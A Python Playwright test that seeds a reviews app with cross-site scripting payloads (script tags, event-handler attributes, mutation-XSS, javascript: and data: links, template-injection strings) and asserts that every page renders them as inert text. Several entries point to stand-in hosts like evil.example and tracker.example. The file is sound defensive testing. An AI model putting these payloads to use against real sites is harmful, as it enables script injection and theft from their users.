"""That nothing which people write runs in the browser of whoever reads it."""

from datetime import date, timedelta

import pytest
from playwright.sync_api import Page, expect

from reviews.models import Dependency, Evaluation, Scan, Solution, Team, User
from reviews.rules.vocabulary import Kind, Scheme
from tests.browser.conftest import signed_in
from tests.conftest import NOW, Cast
from tests.pages.building import evaluated, registered, scanned

pytestmark = pytest.mark.slow

# Each of them would open a dialog or ask another host, which the watch reports.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "\"'><svg/onload=alert(4)>",
    "</title><script>alert(5)</script>",
    "<details open ontoggle=alert(6)>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(7)>",
    "<iframe srcdoc='<script>alert(8)</script>'>",
    "<img src=http://tracker.example/1.png>",
    "<form action=//evil.example><button autofocus>x",
    "<style>@import '//evil.example/x.css'</style>",
    "{{ 7*7 }} {% debug %} ${7*7} %(x)s",
]
LINKS = [
    "[a](javascript:alert(1))",
    "[b](JaVaScRiPt:alert(2))",
    "[c](&#106;avascript:alert(3))",
    "[d](data:text/html,<script>alert(4)</script>)",
    "[e](java\tscript:alert(5))",
    "![f](http://tracker.example/2.png)",
    "<javascript:alert(6)>",
    "[g]: javascript:alert(7)\n[g]",
    "[h](vbscript:x)",
]
TAME = {"http:", "https:", "mailto:"}


def hostile_register(cast: Cast, today: date) -> list[Solution]:
    team = Team.objects.create(name=f"Team {PAYLOADS[1]}", slug="hostile")
    User.objects.filter(pk=cast.bob.pk).update(first_name=PAYLOADS[2][:150])
    cast.bob.refresh_from_db()
    solutions = []
    for number, payload in enumerate(PAYLOADS):
        solution = registered(
            f"{number} {payload}",
            on=today - timedelta(400),
            team=team,
            owner=cast.bob,
            description=payload,
            version=payload,
            identifiers=[(Scheme.NAME, f"{number} {payload}")],
        )
        for rationale in ["\n\n".join(PAYLOADS), "\n\n".join(LINKS)]:
            evaluated(
                solution,
                today - timedelta(399 if number % 2 else 170),
                summary=payload,
                rationale=rationale,
                today=today,
            )
        solutions.append(solution)
    # What a service would refuse today, an older version or a hand may have stored.
    Solution.objects.update(homepage="javascript:alert(9)", pulled_by=PAYLOADS[1])
    return solutions


def test_nothing_that_people_write_runs(page: Page, cast: Cast, today: date) -> None:
    solutions = hostile_register(cast, today)
    shop = registered("Shop", kind=Kind.BUILT, team=cast.platform)
    for solution in solutions:
        Dependency.objects.create(
            component=shop,
            solution=solution,
            version=PAYLOADS[3],
            first_seen_on=today,
            last_seen_on=today,
        )
    scanned(today)
    problems = [{"solution": text, "message": text} for text in PAYLOADS]
    Scan.objects.filter(pk=Scan.objects.latest("pk").pk).update(
        problems=problems, finished_at=NOW
    )
    assert Evaluation.objects.count() == 2 * len(PAYLOADS)
    signed_in(page, "alice")

    for path in [
        "/?team=hostile",
        "/?list=overdue",
        f"/?team={PAYLOADS[0]}",
        "/?owner=%22%3E%3Csvg/onload=alert(1)%3E",
        "/solutions/",
        "/solutions/?search=%22%3E%3Csvg/onload=alert(1)%3E",
        "/solutions/shop/",
        "/<script>alert(1)</script>/",
        *(f"/solutions/{solution.slug}/" for solution in solutions),
    ]:
        page.goto(path, wait_until="load")
        hrefs = page.locator("main a").evaluate_all(
            "links => links.map(link => [link.protocol, link.href])"
        )
        assert [href for scheme, href in hrefs if scheme not in TAME] == []
        assert page.locator("main :is(script, iframe, svg, style, img)").count() == 0

    # Shown as typed, and not silently dropped.
    page.goto(f"/solutions/{solutions[0].slug}/")
    expect(page.locator("h1")).to_have_text("0 <script>alert(1)</script>")
